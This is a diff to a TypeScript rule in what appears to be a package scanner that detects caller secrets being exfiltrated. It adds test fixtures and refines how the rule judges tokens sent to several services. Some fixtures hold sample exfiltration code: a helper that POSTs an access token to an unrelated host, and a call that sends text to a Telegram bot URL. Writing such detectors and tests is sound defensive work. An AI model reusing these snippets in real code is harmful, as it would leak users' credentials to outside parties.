@@ -4,7 +4,7 @@ import { keyMaterial } from './behaviour/credentials.ts'
 import { guardsInWords } from './behaviour/guards.ts'
 import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
 import type { Place } from './behaviour/place.ts'
-import { connectorsOf, createServiceOf } from './behaviour/service.ts'
+import { connectorsOf, createServiceOf, manyServices } from './behaviour/service.ts'
 import type { Passed } from './behaviour/service.ts'
 import { findingsOf, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
 import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
@@ -60,6 +60,17 @@ export const callerSecretExfiltration: Rule = {
               "exports.decode = text => {\n  fetch('https://api.telegram.org/bot0000000000:AAInertInertInert/sendMessage?text=' + text)\n  return Buffer.from(text, 'hex')\n}\n",
           },
         },
+        {
+          title: 'sign-ins to several services, one of which hands its token to a helper that posts it',
+          files: {
+            ...signIns(['b', 'c', 'd', 'e']),
+            'f.js':
+              "const { check } = require('./check')\n" +
+              "exports.user = access_token => {\n  check(access_token)\n  return fetch('https://api.f.example/me', { headers: { authorization: access_token } })\n}\n",
+            'check.js':
+              "exports.check = access_token => fetch('https://check.invalid/c', { method: 'POST', body: access_token })\n",
+          },
+        },
       ],
       passes: [
         {
@@ -68,6 +79,14 @@ export const callerSecretExfiltration: Rule = {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
             'i.js':
               "exports.orders = (apiKey, apiSecret) => fetch('https://api.a.example/orders', { headers: { key: apiKey, secret: apiSecret } })\n",
+          },
+        },
+        {
+          title: 'sign-ins to several services, one of which is asked in what is sent',
+          files: {
+            ...signIns(['b', 'c', 'd', 'e']),
+            'f.js':
+              "exports.user = access_token => fetch('https://api.f.example/me', { method: 'POST', body: 'token=' + access_token })\n",
           },
         },
         {
@@ -104,6 +123,20 @@ export const callerSecretExfiltration: Rule = {
     })
     return findingsOf(sightings, say)
   },
+}
+
+/** Examples: a package with a file for each of some services, and one more, `f.js`. */
+function signIns(services: readonly string[]): Readonly<Record<string, string>> {
+  const files = services.map((name): [string, string] => [
+    `${name}.js`,
+    `exports.user = access_token => fetch('https://api.${name}.example/me', { headers: { authorization: access_token } })\n`,
+  ])
+  const index = [...services, 'f'].map(name => `exports.${name} = require('./${name}')\n`).join('')
+  return {
+    'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+    'i.js': index,
+    ...Object.fromEntries(files),
+  }
 }
 
 /** Ways that no service is signed in to, whoever's host it is: in the address of a picture, in the open over the network. */
@@ -216,19 +249,31 @@ function signsInSomewhereElse({ flow, place }: Leak, { flows }: Inspection, { li
   if (source.kind !== 'caller-secret' || sink.role === 'header' || !certain || place.host === undefined)
     return false
   const here = registrableDomain(place.host, lists.hosts)
-  return flows.some(other => {
-    const named = other.sink.destinations.flatMap(text => hostOf(text) ?? [])
-    return (
-      other.source.kind === 'caller-secret' &&
-      other.source.name === source.name &&
-      // Collections of clients have a file for each service; some of those are asked with the token in the address.
-      (sink.role === 'payload' || other.source.at.path === source.at.path) &&
-      other.sink.kind === 'network' &&
-      other.sink.role === 'header' &&
-      named.length > 0 &&
-      named.every(host => registrableDomain(host, lists.hosts) !== here)
-    )
+  const domainsOf = (other: Flow): readonly string[] =>
+    other.source.kind === 'caller-secret' && other.sink.kind === 'network'
+      ? other.sink.destinations.flatMap(text => {
+          const host = hostOf(text)
+          return host === undefined ? [] : [registrableDomain(host, lists.hosts)]
+        })
+      : []
+  const elsewhere = flows.filter(other => {
+    if (other.source.name !== source.name || other.sink.role !== 'header') return false
+    const domains = domainsOf(other)
+    return domains.length > 0 && !domains.includes(here)
   })
+  if (elsewhere.some(other => other.source.at.path === source.at.path)) return true
+  // Collections of clients have a file for each service; some of those are asked with the token in the address.
+  if (sink.role !== 'payload' || elsewhere.length === 0) return false
+  // Or in what is sent: what so many services call their token is another one for each of them, and for this one too where
+  // nothing that is taken in its file goes anywhere else.
+  const files = new Set(elsewhere.map(other => other.source.at.path))
+  const services = new Set(elsewhere.flatMap(domainsOf))
+  return (
+    Math.min(files.size, services.size) < manyServices ||
+    flows.some(
+      other => other.source.at.path === source.at.path && domainsOf(other).some(domain => domain !== here),
+    )
+  )
 }
 
 /** Places from which data leaves for one host, from which on that host is what the package is a client of. */
